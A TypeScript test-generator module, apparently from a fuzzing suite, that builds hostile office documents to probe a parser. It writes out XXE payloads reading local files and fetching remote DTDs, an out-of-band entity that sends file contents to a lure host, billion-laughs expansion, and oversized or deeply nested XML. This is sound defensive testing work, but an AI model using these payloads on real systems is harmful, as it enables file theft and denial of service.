import { strFromU8, strToU8 } from "fflate";
import { flatOdt } from "../../support/odt-builder.ts";
import type { Random } from "../../fuzz/random.ts";
import { partsOf } from "./archives.ts";
import { bytesOf, type Lure, type Made, type Maker } from "./hostile-file.ts";
import { rawZip } from "./raw-zip.ts";

const DOCUMENT = { docx: "word/document.xml", xlsx: "xl/worksheets/sheet1.xml", odt: "content.xml" } as const;
type Kind = keyof typeof DOCUMENT;

/** The document with one of its parts written anew. */
function rewritten(kind: Kind, part: string, change: (xml: string) => string): Made {
  const parts = partsOf(kind).map((one) =>
    one.name === part ? { ...one, content: strToU8(change(strFromU8(one.content))) } : one,
  );
  return { name: `план.${kind}`, bytes: rawZip(parts) };
}

const kindOf = (random: Random): Kind => random.pick(["docx", "xlsx", "odt"] as const);
const ofType = (xml: string, type: string, entity: string): string =>
  xml.replace(/^(<\?xml[^>]*\?>)?/, `$1${type}`).replace(/(<(?:w:)?t(?: [^>]*)?>|<text:p>)/, `$1${entity}`);

const laughs = (times: number): string =>
  `<!DOCTYPE x [<!ENTITY a0 "ха">${Array.from({ length: 9 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(times)}">`).join("")}]>`;

const outside = ({ web, file }: Lure): readonly (readonly [string, string])[] => [
  [`<!DOCTYPE x [<!ENTITY e SYSTEM "${file}">]>`, "&e;"],
  [`<!DOCTYPE x [<!ENTITY e SYSTEM "${web}/entity">]>`, "&e;"],
  [`<!DOCTYPE x SYSTEM "${web}/x.dtd">`, ""],
  [`<!DOCTYPE x PUBLIC "-//A//B" "${web}/public.dtd">`, ""],
  [`<!DOCTYPE x [<!ENTITY % p SYSTEM "${web}/p.dtd"> %p;]>`, "&e;"],
  [`<!DOCTYPE x [<!ENTITY % f SYSTEM "${file}"><!ENTITY % q "<!ENTITY send SYSTEM '${web}/?%f;'>">%q;]>`, "&send;"],
  [`<?xml-stylesheet type="text/xsl" href="${web}/a.xsl"?>`, ""],
  [`<!DOCTYPE x [<!ATTLIST x a CDATA "${"b".repeat(1000)}"><!NOTATION n SYSTEM "${web}/n">]>`, ""],
];

/** XML that swells, nests or reaches out. */
export const markup: readonly Maker[] = [
  (random, lure) => {
    const kind = kindOf(random);
    const [type, entity] = random.pick(outside(lure));
    return rewritten(kind, DOCUMENT[kind], (xml) => ofType(xml, type, entity));
  },
  (random) => {
    const kind = kindOf(random);
    return rewritten(kind, DOCUMENT[kind], (xml) => ofType(xml, laughs(random.pick([10, 200])), "&a9;"));
  },
  // not the document itself: its styles, relationships, kinds
  (random, lure) => {
    const kind = kindOf(random);
    const part = random.pick(partsOf(kind).filter(({ name }) => /xml|rels/.test(name))).name;
    const [type, entity] = random.pick(outside(lure));
    return rewritten(kind, part, (xml) => ofType(xml, type, entity));
  },
  // depth
  (random) => {
    const kind = kindOf(random);
    const [open, close] = random.pick([
      ["<a>", "</a>"],
      ["<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"],
      ["<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"],
      ["<w:ins>", "</w:ins>"],
      ["<table:table><table:table-row><table:table-cell>", "</table:table-cell></table:table-row></table:table>"],
      ["<text:list><text:list-item>", "</text:list-item></text:list>"],
      ["<text:span>", "</text:span>"],
    ] as const);
    const depth = random.pick([300, 5000, 100_000, 1_000_000]);
    const deep = open.repeat(depth) + (random.oneIn(2) ? close.repeat(depth) : "");
    return rewritten(kind, DOCUMENT[kind], (xml) => xml.replace(/(<w:body>|<sheetData>|<office:text>)/, `$1${deep}`));
  },
  // an attribute of megabytes, attributes without number, names without end
  (random) => {
    const kind = kindOf(random);
    const odd = random.pick([
      `<a b="${"я".repeat(4_000_000)}"/>`,
      `<a ${Array.from({ length: 60_000 }, (_, at) => `a${at}=""`).join(" ")}/>`,
      `<${"a".repeat(3_000_000)}/>`,
      `<a ${Array.from({ length: 5000 }, (_, at) => `xmlns:n${at}="urn:${at}"`).join(" ")}/>`,
      "<!-- ".repeat(500_000),
      "<![CDATA[".repeat(300_000),
      "<?a ".repeat(500_000),
      `<!--${"-".repeat(4_000_000)}-->`,
      "&#x".repeat(800_000),
      "&#1114112;&#xd800;&#0;&#x10ffff;",
      "<".repeat(3_000_000),
      '<a b="<'.repeat(300_000),
    ]);
    return rewritten(kind, DOCUMENT[kind], (xml) => xml.replace(/(<w:body>|<sheetData>|<office:text>)/, `$1${odd}`));
  },
  // the flat kind and pages
  (random, lure) => {
    const [type, entity] = random.pick([...outside(lure), [laughs(200), "&a9;"]] as const);
    const xml = ofType(flatOdt("<text:p>План</text:p>"), type, entity);
    return { name: random.pick(["план.fodt", "план.xml", "план.odt"]), bytes: bytesOf(xml) };
  },
  // other code pages than told
  (random) => {
    const kind = kindOf(random);
    return rewritten(kind, DOCUMENT[kind], (xml) => {
      const head = `<?xml version="1.0" encoding="${random.pick(["UTF-16", "UTF-7", "koi8-r", "ISO-2022-KR", "x-none"])}"?>`;
      return xml.replace(/^(<\?xml[^>]*\?>)?/, head);
    });
  },
];
